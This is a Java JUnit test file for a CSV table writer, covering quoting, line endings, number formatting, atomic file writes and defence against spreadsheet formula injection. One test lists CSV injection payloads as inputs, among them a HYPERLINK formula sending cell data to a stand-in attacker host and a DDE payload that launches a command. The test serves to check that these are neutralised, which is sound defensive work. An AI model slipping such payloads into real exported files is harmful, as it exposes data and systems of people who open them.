package io.roundup.report;

import io.roundup.domain.EventStatus;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.Currency;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class CsvTableTest {

    @TempDir
    Path dir;

    @Test
    void quotesOnlyWhereNeeded() {
        CsvTable t = new CsvTable(List.of("a", "b", "c", "d", "e"));
        t.addRow("plain", "with, comma", "say \"hi\"", "two\nlines", " spaced ");
        assertThat(t.render()).isEqualTo("a,b,c,d,e\nplain,\"with, comma\",\"say \"\"hi\"\"\",\"two\nlines\", spaced \n");
    }

    @Test
    void carriageReturnsInCellsBecomeLf() {
        CsvTable t = new CsvTable(List.of("a"));
        t.addRow("x\r\ny\rz");
        assertThat(t.render()).isEqualTo("a\n\"x\ny\nz\"\n");
        assertThat(t.render()).doesNotContain("\r");
    }

    @Test
    void nullIsAnEmptyCellAndNumbersArePlain() {
        CsvTable t = new CsvTable(List.of("n", "big", "price", "zero", "neg", "date", "cur", "status", "long", "dbl", "list"));
        t.addRow(Arrays.asList(null, new BigDecimal("2E+10"), new BigDecimal("116.20"), new BigDecimal("0.000"),
                new BigDecimal("-1.50"), LocalDate.of(2026, 1, 8), Currency.getInstance("HKD"),
                EventStatus.IN_TALKS, 440226000L, 0.1, List.of("SoftBank", "Thrive")));
        assertThat(t.render().split("\n")[1])
                .isEqualTo(",20000000000,116.2,0,-1.5,2026-01-08,HKD,in_talks,440226000,0.1,SoftBank;Thrive");
    }

    @Test
    void aLoneEmptyFirstCellIsNotQuoted() {
        CsvTable t = new CsvTable(List.of("a", "b"));
        t.addRow(null, null);
        assertThat(t.render()).isEqualTo("a,b\n,\n");
    }

    @Test
    void rowWidthMustMatchHeader() {
        CsvTable t = new CsvTable(List.of("a", "b"));
        assertThatThrownBy(() -> t.addRow("only one")).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void writesUtf8WithoutBomWithLfAndIsDeterministic() throws IOException {
        Path f1 = dir.resolve("out/one.csv");
        Path f2 = dir.resolve("out/two.csv");
        table().write(f1);
        table().write(f2);
        byte[] b1 = Files.readAllBytes(f1);
        byte[] b2 = Files.readAllBytes(f2);
        assertThat(b1).isEqualTo(b2);
        assertThat(b1[0]).isEqualTo((byte) 'c'); // no BOM
        String text = new String(b1, StandardCharsets.UTF_8);
        assertThat(text).isEqualTo("company,country,amount\n智谱,CN,116.2\n\"OpenAI, Inc.\",US,40000000000\n");
        assertThat(text).doesNotContain("\r");
    }

    @Test
    void rewritingReplacesTheFileAndLeavesNoTempFiles() throws IOException {
        Path f = dir.resolve("t.csv");
        Files.writeString(f, "old content that is longer than the new one\n".repeat(10));
        table().write(f);
        assertThat(Files.readAllBytes(f)).isEqualTo(table().toBytes());
        try (Stream<Path> s = Files.list(dir)) {
            assertThat(s.map(p -> p.getFileName().toString()).toList()).containsExactly("t.csv");
        }
    }

    @Test
    void aFailedMoveLeavesTheTargetAndNoTempFile() throws IOException {
        Path target = dir.resolve("busy.csv");
        Files.createDirectories(target);
        Files.writeString(target.resolve("keep.txt"), "x"); // a non-empty directory cannot be replaced
        assertThatThrownBy(() -> table().write(target)).isInstanceOf(IOException.class);
        assertThat(target.resolve("keep.txt")).exists();
        try (Stream<Path> s = Files.list(dir)) {
            assertThat(s.map(p -> p.getFileName().toString()).toList()).containsExactly("busy.csv");
        }
    }

    private static CsvTable table() {
        return new CsvTable(List.of("company", "country", "amount"))
                .addRow("智谱", "CN", new BigDecimal("116.200"))
                .addRow("OpenAI, Inc.", "US", new BigDecimal("4.0E+10"));
    }

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsNeutralised() {
        // OWASP "CSV Injection": a text cell starting with = + - @ tab or CR gets a leading single quote
        CsvTable t = new CsvTable(List.of("text"));
        for (String cell : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
                "@SUM(A1:A9)", "\tx", "\r=1")) {
            t.addRow(cell);
        }
        assertThat(t.rows()).extracting(r -> r.get(0)).allMatch(c -> c.startsWith("'"), "every cell starts with '");
        assertThat(t.render()).isEqualTo("text\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"\n"
                + "'+1+cmd|' /C calc'!A0\n'-2+3\n'@SUM(A1:A9)\n'\tx\n\"'\n=1\"\n");
    }

    @Test
    void numbersAndHarmlessTextStayAsTheyAre() {
        assertThat(CsvTable.format(new BigDecimal("-5.25"))).isEqualTo("-5.25"); // a negative number stays a number
        assertThat(CsvTable.format(-7L)).isEqualTo("-7");
        assertThat(CsvTable.format(-1.5d)).isEqualTo("-1.5");
        assertThat(CsvTable.format("Zhipu = Knowledge Atlas")).isEqualTo("Zhipu = Knowledge Atlas");
        assertThat(CsvTable.format(List.of("a", "=b"))).isEqualTo("a;'=b");
        assertThat(CsvTable.format("")).isEmpty();
    }
}
